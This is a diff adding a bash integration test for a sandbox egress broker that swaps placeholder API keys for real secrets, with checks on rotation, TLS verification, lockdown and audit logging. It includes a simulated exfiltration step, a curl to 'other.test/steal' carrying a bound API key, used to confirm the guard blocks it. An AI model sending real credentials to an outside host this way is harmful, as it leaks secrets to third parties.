@@ -1,0 +1,253 @@
+#!/bin/bash
+# The HTTPS egress data path end to end: the real agent (--no-init, in an
+# `ip netns` namespace) runs curl through `miosactl exec`, so it has the
+# placeholder in OPENAI_API_KEY and the sandbox CA in its CA-bundle
+# variables; the broker terminates TLS with the sandbox's leaf, swaps the
+# placeholder, and re-encrypts to a local HTTPS echo upstream (its own test
+# CA, trusted through --upstream-ca; reached through --connect-to, verified
+# against the mapped name).  Checks: the upstream sees the real key while
+# the guest only holds the placeholder; query swap; the exfiltration guard
+# (a secret bound to api.openai.test sent to other.test stays a
+# placeholder and is flagged); an unbound placeholder passes unchanged;
+# rotation takes effect on the next request; an upstream whose certificate
+# does not name the host gets 502; audit rows; no secret value in state.db
+# or the logs.
+#
+# Needs root (ip netns) and the agent: a missing one is a failure, never a skip.
+set -euo pipefail
+
+BROKER=${MIOSA_BROKER:?MIOSA_BROKER not set}
+CTL=${MIOSACTL:?MIOSACTL not set}
+ECHO=${ECHO_UPSTREAM:?ECHO_UPSTREAM not set}
+POLICY=${POLICY_TOOL:?POLICY_TOOL not set}
+AGENT=${MIOSA_INIT:-${MIOSA_BUILD_ROOT:?MIOSA_BUILD_ROOT not set}/guest/miosa-init}
+
+npass=0
+fail() {
+	echo "FAIL: $*"
+	dump_logs
+	exit 1
+}
+pass() { npass=$((npass + 1)); echo "PASS: $*"; }
+
+dump_logs() {
+	for f in "$dir"/broker.err "$dir"/agent.log "$dir"/echo.log; do
+		[ -f "$f" ] || continue
+		echo "--- $f (last 40 lines)"
+		tail -n 40 "$f"
+	done
+}
+
+wait_for() { # wait_for SECONDS WHAT COMMAND...
+	local deadline=$((SECONDS + $1)) what=$2
+	shift 2
+	until "$@"; do
+		[ "$SECONDS" -lt "$deadline" ] || fail "timed out waiting for $what"
+		sleep 0.1
+	done
+}
+
+[ "$(id -u)" = 0 ] || { echo "FAIL: needs root (ip netns); CI runs as root"; exit 1; }
+[ -x "$AGENT" ] || { echo "FAIL: miosa-init not found at $AGENT (guest/ must build it)"; exit 1; }
+for tool in ip openssl python3 sqlite3; do
+	command -v "$tool" >/dev/null || { echo "FAIL: $tool not installed"; exit 1; }
+done
+
+dir=$(mktemp -d /tmp/miosa-eh.XXXXXX)
+ns=miosa-eh-$$
+broker_pid=
+agent_pid=
+echo_pid=
+secret_value=sk-live-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
+rotated_value=sk-rot-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
+
+cleanup() {
+	for p in $agent_pid $broker_pid $echo_pid; do
+		kill -KILL "$p" 2>/dev/null || true
+	done
+	ip netns del "$ns" 2>/dev/null || true
+	rm -rf "/etc/netns/$ns" "$dir"
+}
+trap cleanup EXIT
+trap "exit 1" INT TERM
+
+export MIOSA_SOCKET=$dir/state/control.sock
+ctl() { "$CTL" "$@"; }
+gexec() { ctl exec "$sbx" "$@" </dev/null; }
+exec_works() { [ "$(gexec -- echo ready 2>/dev/null)" = ready ]; }
+
+# --- A test CA and the upstream's certificate (api.openai.test, other.test) -----------
+(
+	cd "$dir"
+	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
+		-subj "/CN=miosa test upstream CA" -keyout upstream-ca.key -out upstream-ca.pem
+	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
+		-subj "/CN=api.openai.test" -keyout server.key -out server.csr
+	printf 'subjectAltName=DNS:api.openai.test,DNS:other.test,DNS:third.test\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n' >ext.cnf
+	openssl x509 -req -in server.csr -CA upstream-ca.pem -CAkey upstream-ca.key \
+		-CAcreateserial -days 2 -extfile ext.cnf -out server.pem
+) >"$dir/openssl.log" 2>&1 || { cat "$dir/openssl.log"; fail "openssl could not make the test certificates"; }
+
+"$ECHO" "$dir/server.pem" "$dir/server.key" "$dir/echo.port" </dev/null >"$dir/echo.log" 2>&1 &
+echo_pid=$!
+wait_for 20 "the echo upstream" test -s "$dir/echo.port"
+port=$(cat "$dir/echo.port")
+
+# bad.test: the same server, whose certificate does not name bad.test.
+"$BROKER" --state-dir "$dir/state" --master-key "$dir/master.key" --log-level debug \
+	--connect-to "api.openai.test:443:127.0.0.1:$port" \
+	--connect-to "other.test:443:127.0.0.1:$port" \
+	--connect-to "bad.test:443:127.0.0.1:$port" \
+	--connect-to "third.test:443:127.0.0.1:$port" \
+	--connect-to "third.test:8443:127.0.0.1:$port" \
+	--upstream-ca "$dir/upstream-ca.pem" \
+	</dev/null >"$dir/broker.out" 2>"$dir/broker.err" &
+broker_pid=$!
+wait_for 20 "the broker" grep -q broker_ready "$dir/broker.err"
+
+sbx=$(ctl sandbox create --vsock-uds "$dir/vm.sock")
+printf %s "$secret_value" |
+	ctl secrets set "$sbx" openai_key --expose-as OPENAI_API_KEY --host api.openai.test >/dev/null
+placeholder=$(ctl --json secrets ls "$sbx" | python3 -c \
+	'import json,sys; print([b["placeholder"] for b in json.load(sys.stdin)["bindings"] if b["expose_as_env"]=="OPENAI_API_KEY"][0])')
+[[ $placeholder =~ ^miosa-tok-[0-9a-f]{32}$ ]] || fail "placeholder '$placeholder'"
+
+mkdir -p "/etc/netns/$ns"
+echo "nameserver 192.0.2.53" >"/etc/netns/$ns/resolv.conf"
+ip netns add "$ns"
+ip netns exec "$ns" "$AGENT" --no-init --transport "unix:$dir/vm.sock" --runtime-dir "$dir/run" \
+	--resolv-conf "/etc/netns/$ns/resolv.conf" --log-level debug \
+	</dev/null >/dev/null 2>"$dir/agent.log" &
+agent_pid=$!
+wait_for 30 "exec through the agent" exec_works
+pass "broker, sandbox, secret bound to api.openai.test, agent connected"
+
+# --- The swap: the upstream sees the value, the guest only the placeholder ------------
+out=$(gexec -- sh -c 'curl -sS --max-time 15 https://api.openai.test/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"' 2>"$dir/curl.err") ||
+	fail "curl https://api.openai.test/v1/models: $(cat "$dir/curl.err")"
+echo "$out" | grep -q "^GET /v1/models HTTP/1.1" || fail "echo: no request line in '$out'"
+echo "$out" | grep -qi "^host: api.openai.test" || fail "echo: Host not api.openai.test: '$out'"
+echo "$out" | grep -qF "Authorization: Bearer $secret_value" || fail "upstream did not get the real key: '$out'"
+gexec -- env | grep -qF "$secret_value" && fail "the secret value reached the guest env"
+pass "HTTPS through the sandbox CA: upstream saw 'Authorization: Bearer <real value>'; the guest env has only the placeholder"
+
+out=$(gexec -- sh -c 'curl -sS --max-time 15 "https://api.openai.test/v1/q?api_key=$OPENAI_API_KEY&x=1"') ||
+	fail "curl with ?api_key="
+echo "$out" | grep -qF "GET /v1/q?api_key=$secret_value&x=1 HTTP/1.1" || fail "query not swapped: '$out'"
+pass "?api_key=\$OPENAI_API_KEY swapped in the query"
+
+unbound=miosa-tok-0123456789abcdef0123456789abcdef
+out=$(gexec -- curl -sS --max-time 15 https://api.openai.test/v1/x -H "X-Key: $unbound") ||
+	fail "curl with an unbound placeholder"
+echo "$out" | grep -qF "X-Key: $unbound" || fail "unbound placeholder changed: '$out'"
+pass "an unbound placeholder passes unchanged (M4)"
+
+# --- Exfiltration guard: bound to api.openai.test, sent to other.test -----------------
+out=$(gexec -- sh -c 'curl -sS --max-time 15 https://other.test/steal -H "Authorization: Bearer $OPENAI_API_KEY"') ||
+	fail "curl https://other.test/steal"
+echo "$out" | grep -qF "Authorization: Bearer $placeholder" || fail "other.test: '$out'"
+echo "$out" | grep -qF "$secret_value" && fail "the secret reached other.test"
+pass "the same placeholder sent to other.test is NOT swapped (B1)"
+
+# --- Rotation: the next request carries the new value, no agent restart ---------------
+printf %s "$rotated_value" | ctl secrets rotate "$sbx" openai_key >/dev/null
+out=$(gexec -- sh -c 'curl -sS --max-time 15 https://api.openai.test/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"') ||
+	fail "curl after rotate"
+echo "$out" | grep -qF "Authorization: Bearer $rotated_value" || fail "after rotate: '$out'"
+pass "rotate: the next request carries the new value (M5)"
+
+# --- Upstream verification against the mapped name ------------------------------------
+out=$(gexec -- curl -sS -i --max-time 15 https://bad.test/ 2>&1) || true
+echo "$out" | grep -q "^HTTP/1.1 502" || fail "bad.test (certificate without its name): '$out'"
+echo "$out" | grep -qi "^MIOSA-Upstream-Error: tls-verify-failed" || fail "bad.test reason: '$out'"
+pass "an upstream whose certificate does not name the host: 502 MIOSA-Upstream-Error: tls-verify-failed"
+
+# --- Enforce: lockdown keeps observed hosts, blocks new ones with a readable 403 --------
+# (policy_tool until the control API has network routes; the broker reads a
+# fresh snapshot per request and per connection)
+"$POLICY" "$dir/state" "$sbx" lockdown || fail "lockdown"
+out=$(gexec -- curl -sS --max-time 15 https://api.openai.test/after-lockdown) || fail "observed host after lockdown"
+echo "$out" | grep -q "^GET /after-lockdown" || fail "observed host after lockdown: '$out'"
+out=$(gexec -- curl -sS -i --max-time 15 https://third.test/blocked 2>&1) || true
+echo "$out" | grep -q "^HTTP/1.1 403" || fail "third.test in enforce mode: '$out'"
+echo "$out" | grep -qi "^MIOSA-Egress-Deny: host-not-allowed" || fail "deny header: '$out'"
+echo "$out" | grep -qF "miosactl network allow $sbx third.test" || fail "deny body: '$out'"
+pending=$("$POLICY" "$dir/state" "$sbx" pending 2>&1) || fail "pending: $pending"
+echo "$pending" | grep -q "^third.test 443 " || fail "third.test not pending: '$pending'"
+# Other TCP ports: the agent only captures the HelloAck's listen ports (80,
+# 443), so the EgressOpen for port 8443 is spoken by hand on the wire.
+third_addr=$(ip netns exec "$ns" getent hosts third.test | awk '{print $1}')
+[[ $third_addr =~ ^198\.1[89]\. ]] || fail "third.test -> '$third_addr'"
+tcp_open() { # tcp_open expect_ok|expect_refused
+	python3 - "$dir/vm.sock_1024" "$third_addr" "$1" "$dir/upstream-ca.pem" <<'PY'
+import socket, ssl, struct, sys
+path, addr, want, ca = sys.argv[1:5]
+def field(num, data): return bytes([num << 3 | 2, len(data)]) + data
+def varint(n):
+    out = b""
+    while True:
+        b = n & 0x7f; n >>= 7
+        if n: out += bytes([b | 0x80])
+        else: return out + bytes([b])
+eg = field(1, bytes(int(x) for x in addr.split("."))) + b"\x10" + varint(8443)
+payload = field(2, eg)
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(15); s.connect(path)
+s.sendall(struct.pack(">I", len(payload)) + payload)
+hdr = b""
+while len(hdr) < 4: hdr += s.recv(4 - len(hdr))
+n = struct.unpack(">I", hdr)[0]
+res = b""
+while len(res) < n: res += s.recv(n - len(res))
+if want == "expect_refused":
+    assert res[:2] == b"\x08\x02" and b"host-not-allowed" in res, res
+    print("refused host-not-allowed"); sys.exit(0)
+assert res[:2] == b"\x08\x01", res
+ctx = ssl.create_default_context(cafile=ca)
+t = ctx.wrap_socket(s, server_hostname="third.test")
+t.sendall(b"GET /raw HTTP/1.1\r\nHost: third.test:8443\r\nConnection: close\r\n\r\n")
+body = b""
+while b"GET /raw HTTP/1.1" not in body:  # the echo server keeps the connection
+    c = t.recv(65536)
+    if not c: break
+    body += c
+t.close()
+assert b"GET /raw HTTP/1.1" in body, body
+print("relayed")
+PY
+}
+out=$(tcp_open expect_refused 2>&1) || fail "TCP EgressOpen to third.test:8443 in enforce mode: $out"
+pass "lockdown: observed host works; a new host gets 403 MIOSA-Egress-Deny host-not-allowed (naming the allow command), is pending; other TCP is refused at open"
+
+"$POLICY" "$dir/state" "$sbx" allow third.test || fail "allow third.test"
+out=$(gexec -- curl -sS --max-time 15 https://third.test/now-allowed) || fail "third.test after allow"
+echo "$out" | grep -q "^GET /now-allowed" || fail "third.test after allow: '$out'"
+# other TCP: raw relay, end-to-end TLS from the test to the echo server
+out=$(tcp_open expect_ok 2>&1) || fail "TCP relay to third.test:8443: $out"
+pass "allow third.test: the next request goes through; other TCP is relayed"
+
+# --- Audit rows and no secret value at rest -------------------------------------------
+db=$dir/state/state.db
+q() { sqlite3 -readonly "file:$db?mode=ro" "$1"; }
+n=$(q "SELECT count(*) FROM audit_rows WHERE sandbox_id='$sbx' AND host='api.openai.test' AND scheme='https' AND action='allow' AND secrets_swapped='openai_key'")
+[ "$n" -ge 3 ] || fail "audit rows with secrets swapped = openai_key: $n"
+n=$(q "SELECT count(*) FROM audit_rows WHERE host='other.test' AND secrets_flagged='openai_key' AND secrets_swapped=''")
+[ "$n" = 1 ] || fail "other.test row flagged openai_key: $n"
+path=$(q "SELECT path FROM audit_rows WHERE path LIKE '/v1/q%'")
+[ "$path" = "/v1/q?api_key=REDACTED&x=1" ] || fail "audit path '$path'"
+n=$(q "SELECT count(*) FROM audit_rows WHERE host='third.test' AND port=443 AND action='deny' AND status=403 AND scheme='https'")
+[ "$n" = 1 ] || fail "deny row for third.test:443: $n"
+n=$(q "SELECT count(*) FROM audit_rows WHERE host='third.test' AND port=8443 AND action='deny' AND scheme='tcp'")
+[ "$n" = 1 ] || fail "deny row for TCP third.test:8443: $n"
+wait_for 10 "the TCP row at close" test "$(q "SELECT count(*) FROM audit_rows WHERE host='third.test' AND port=8443 AND action='allow' AND scheme='tcp' AND bytes_up > 0 AND bytes_down > 0")" = 1
+pass "audit rows: swapped=openai_key on api.openai.test, flagged on other.test, query redacted, 403 deny, TCP deny and TCP allow (bytes) rows"
+
+for v in "$secret_value" "$rotated_value"; do
+	grep -aqF "$v" "$dir"/state/state.db* && fail "a secret value is in state.db"
+	grep -qF "$v" "$dir"/broker.err "$dir"/agent.log && fail "a secret value was logged"
+done
+pass "no secret value in state.db (+WAL) or the logs"
+
+kill -TERM "$broker_pid"
+wait "$broker_pid" || fail "broker exited with status $? on SIGTERM"
+broker_pid=
+echo "ALL OK ($npass checks)"
